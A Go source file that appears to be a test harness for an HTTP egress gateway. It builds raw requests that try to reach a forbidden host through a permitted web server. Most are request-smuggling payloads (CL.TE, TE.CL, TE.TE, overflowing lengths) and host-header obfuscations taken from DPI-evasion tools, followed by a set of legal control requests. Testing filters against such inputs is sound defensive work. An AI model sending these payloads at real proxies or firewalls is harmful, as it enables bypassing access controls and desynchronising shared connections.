//go:build linux

package lab

import (
	"context"
	"strings"
)

// requestTactics: the connection is to a permitted web server, and a request in it is for another, or hides another one.
// A gateway that judges the first request alone passes what follows; one that reads it otherwise than the server
// does passes what is smuggled.
func requestTactics() []tactic {
	var all []tactic
	for _, r := range badRequests("HOST", "EVIL") {
		all = append(all, webRequest("sends "+r.what, "RFC 9112; http-garden", r.text))
	}
	const end = "X-Lab: TOKEN\r\n\r\n"
	post := "POST / HTTP/1.1\r\nHost: HOST\r\n"
	hidden := "GET / HTTP/1.1\r\nHost: EVIL\r\n" + end
	first := "GET /first HTTP/1.1\r\nHost: HOST\r\n\r\n"
	for _, r := range [][3]string{
		{"pipelines nine requests and one for another host", "RFC 9112 section 9.3.2", strings.Repeat(first, 9) + hidden},
		{"smuggles a request behind a length that a transfer coding overrides", "CL.TE; RFC 9112 section 6.3", post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden},
		{"smuggles a request in a chunk that a length cuts", "TE.CL; RFC 9112 section 6.3", post + "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n5\r\nabcde\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with two transfer codings", "TE.TE; http-garden", post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with a tab before the coding", "TE.TE; http-garden", post + "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with a space before the colon", "RFC 9112 section 5.1", post + "Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with a quoted coding", "http-garden", post + "Transfer-Encoding: \"chunked\"\r\n\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with a coding in HTTP/1.0", "RFC 9112 section 6.1", "POST / HTTP/1.0\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with a list of lengths", "RFC 9110 section 8.6", post + "Content-Length: 3, 3\r\n\r\nabc" + hidden},
		{"smuggles a request with a length in hex", "http-garden", post + "Content-Length: 0x3\r\n\r\nabc" + hidden},
		{"smuggles a request with a length that overflows", "http-garden", post + "Content-Length: 18446744073709551619\r\n\r\nabc" + hidden},
		{"smuggles a request with a negative length", "http-garden", post + "Content-Length: -3\r\n\r\n" + hidden},
		{"smuggles a request with a chunk size that overflows", "http-garden", post + "Transfer-Encoding: chunked\r\n\r\n10000000000000003\r\nabc\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with bare line feeds in chunks", "TERM.EXT; Kettle 2025", post + "Transfer-Encoding: chunked\r\n\r\n3;\nxx\r\nabc\r\n0\r\n\r\n" + hidden},
		{"smuggles a request with a chunk that does not end", "http-garden", post + "Transfer-Encoding: chunked\r\n\r\n3\r\nabcX0\r\n\r\n" + hidden},
		{"names two hosts in letters of two sizes", "RFC 9112 section 3.2", "GET / HTTP/1.1\r\nHOst: EVIL\r\nHost: HOST\r\n" + end},
		{"hides a host behind a tab", "GoodbyeDPI", "GET / HTTP/1.1\r\nHost:\tEVIL\r\n" + end},
		{"hides a host behind two line breaks", "GoodbyeDPI", "\r\n\r\nGET / HTTP/1.1\r\nHost: EVIL\r\n" + end},
		{"mixes the letters of Host", "GoodbyeDPI: hoSt", "GET / HTTP/1.1\r\nhoSt: EVIL\r\n" + end},
		{"leaves the space before the host out", "GoodbyeDPI", "GET / HTTP/1.1\r\nHost:EVIL\r\n" + end},
		{"gives the host a dot and a port", "GoodbyeDPI: hostdot", "GET / HTTP/1.1\r\nHost: EVIL.:80\r\n" + end},
		{"puts two spaces behind the method", "GoodbyeDPI: methodspace", "GET  / HTTP/1.1\r\nHost: EVIL\r\n" + end},
		{"begins with a line feed", "zapret: methodeol", "\nGET / HTTP/1.1\r\nHost: EVIL\r\n" + end},
		{"asks with an unknown method", "RFC 9110 section 9", "BREW / HTTP/1.1\r\nHost: EVIL\r\n" + end},
		{"hides a host in an absolute target with a user", "RFC 3986 section 3.2.1", "GET http://HOST@EVIL/ HTTP/1.1\r\nHost: EVIL\r\n" + end},
		{"asks for a host of another scheme", "RFC 9112 section 3.2.2", "GET https://EVIL/ HTTP/1.1\r\nHost: EVIL\r\n" + end},
		{"asks for a host with a percent sign", "CVE-2022-24825", "GET / HTTP/1.1\r\nHost: EVIL%2e\r\n" + end},
		{"asks for a host in brackets", "CVE-2022-29188", "GET / HTTP/1.1\r\nHost: [EVIL]\r\n" + end},
		{"asks for an address in octal", "gh-aw-firewall#137", "GET / HTTP/1.1\r\nHost: 024.0102.0102.0102\r\n" + end},
		{"sends the body of a request before it is asked for", "RFC 9110 section 10.1.1", post + "Expect: 100-continue\r\nContent-Length: 0\r\n\r\n" + hidden},
	} {
		all = append(all, webRequest(r[0], r[1], r[2]))
	}
	return append(all, legalRequests()...)
}

// webRequest is a tactic that says text, in which HOST and EVIL stand for names and TOKEN for the proof. Its twin is the
// plainest request on a connection of its own.
func webRequest(name, source, text string) tactic {
	return tactic{name: name, source: source, axes: byFamily | byWebServer,
		evil: func(ctx context.Context, t *Try, s shape) error {
			return t.converse(ctx, t.target(ctx, webOf(s), s.v6, 80), fill(text, webOf(s), t))
		},
		twin: asks("GET / HTTP/1.1\r\nHost: HOST\r\nX-Lab: TOKEN\r\n\r\n", 1),
	}
}

// fill puts names and the proof into a text.
func fill(text, host string, t *Try) string {
	return strings.NewReplacer("HOST", host, "EVIL", "vm."+evilSuffix, "TOKEN", t.Token).Replace(text)
}

// asks says a legal text and wants so many answers.
func asks(text string, answers int) play {
	return func(ctx context.Context, t *Try, s shape) error {
		return t.say(ctx, t.target(ctx, webOf(s), s.v6, 80), fill(text, webOf(s), t), answers)
	}
}

// legalRequests are what honest clients and libraries do.
func legalRequests() []tactic {
	const host, proof = "Host: HOST\r\n", "X-Lab: TOKEN\r\n"
	var all []tactic
	for _, r := range []struct {
		name, source, text string
		answers            int
	}{
		{"asks three times on one connection", "RFC 9112 section 9.3", strings.Repeat("GET / HTTP/1.1\r\n"+host+proof+"\r\n", 3), 3},
		{"asks in HTTP/1.0", "RFC 9112 appendix C", "GET / HTTP/1.0\r\n" + host + proof + "\r\n", 1},
		{"sends a body with a length", "RFC 9112 section 6.2", "POST / HTTP/1.1\r\n" + host + proof + "Content-Length: 5\r\n\r\nhello", 1},
		{"sends a body in chunks", "RFC 9112 section 7.1", "POST / HTTP/1.1\r\n" + host + proof + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", 1},
		{"sends chunks with extensions", "RFC 9112 section 7.1.1", "POST / HTTP/1.1\r\n" + host + proof + "Transfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\n\r\n", 1},
		{"sends trailers", "RFC 9112 section 7.1.2", "POST / HTTP/1.1\r\n" + host + proof + "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-End: 1\r\n\r\n", 1},
		{"writes the host in capitals, with a port", "RFC 9110 section 4.2.3", "GET / HTTP/1.1\r\nHost: HOST:80\r\n" + proof + "\r\n", 1},
		{"writes the host with a dot", "RFC 1034 section 3.1", "GET / HTTP/1.1\r\nHost: HOST.\r\n" + proof + "\r\n", 1},
		{"asks in absolute form", "RFC 9112 section 3.2.2", "GET http://HOST/ HTTP/1.1\r\n" + host + proof + "\r\n", 1},
		{"asks with a long path and query", "RFC 9110 section 4.1", "GET /" + strings.Repeat("a/", 1500) + "?q=%20 HTTP/1.1\r\n" + host + proof + "\r\n", 1},
		{"asks with 60 headers", "RFC 9110 section 5", "GET / HTTP/1.1\r\n" + host + strings.Repeat("X-More: 1\r\n", 60) + proof + "\r\n", 1},
		{"asks what the server can", "RFC 9110 section 9.3.7", "OPTIONS * HTTP/1.1\r\n" + host + proof + "\r\n", 1},
	} {
		all = append(all, tactic{name: r.name, source: r.source, axes: byFamily | byWebServer, twin: asks(r.text, r.answers)})
	}
	return all
}
